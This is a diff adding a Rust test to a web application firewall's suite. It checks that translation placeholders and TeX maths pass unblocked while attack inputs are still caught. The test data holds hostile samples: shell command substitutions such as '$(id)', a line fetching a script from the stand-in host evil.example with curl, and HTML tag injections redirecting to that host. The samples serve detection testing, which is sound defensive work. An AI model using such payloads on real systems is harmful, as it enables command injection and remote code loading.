@@ -6104,3 +6104,39 @@ fn holdout80_to_82_shapes_pass_and_their_attacks_still_score() {
         assert!(!context::root_name_prefixes(v.as_bytes()), "{v}");
     }
 }
+
+#[test]
+fn holdout83_to_85_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let fires = |o: &Outcome, id: u32| o.matches.iter().any(|m| m.rule_id == id && m.score >= 5);
+    // A translation's rich-text placeholder (react-i18next, FormatJS) and a quiz's TeX maths.
+    for body in [
+        serde_json::json!({"key": "checkout.terms", "value": "By placing your order you agree to our <link>Terms & Conditions</link>."}),
+        serde_json::json!({"feedback": {"correct": "Nice! $(x-2)(x-3)=0$.", "incorrect": "Which two numbers multiply to $6$ and add to $-5$?"}}),
+        serde_json::json!({"quiz": "A fair die is rolled twice. What is $P(\\text{sum} = 7)$?\n- [x] $\\frac{1}{6}$\n> $6 \\times 6 = 36$, so $p(x) = 1/6$."}),
+    ] {
+        let o = json_post(&waf, &body.to_string());
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    for v in ["Nice! $(x-2)(x-3)=0$.", "What is $P(\\text{sum} = 7)$?", "$$f(x)=x^2-4x$$, find $$f'(3)$$"] {
+        assert!(context::tex_math(v.as_bytes()), "{v}");
+    }
+    for v in ["$(id)$", "$(sleep 5)$", "$f(101).$f(120)", "$(($() 42))", "$(\\id)$", "$ (x)$", "$(x)$ `id`", "$(x);id$"]
+    {
+        assert!(!context::tex_math(v.as_bytes()), "{v}");
+    }
+    // What still counts: void elements with attributes, command substitution and PHP variable
+    // calls outside maths.
+    for (v, id) in [
+        ("<link rel=\"stylesheet\" href=\"//evil.example/x.css\">", 4104),
+        ("<meta http-equiv=\"refresh\" content=\"0;url=//evil.example/\">", 4104),
+        ("<base href=\"//evil.example/\">", 4104),
+        ("$(id)", 3201),
+        ("x=$(curl -s evil.example/a.sh)", 3201),
+        ("$f(101).$f(120)", 3305),
+    ] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(fires(&o, id) && o.blocked, "{v}: {o:?}");
+        }
+    }
+}
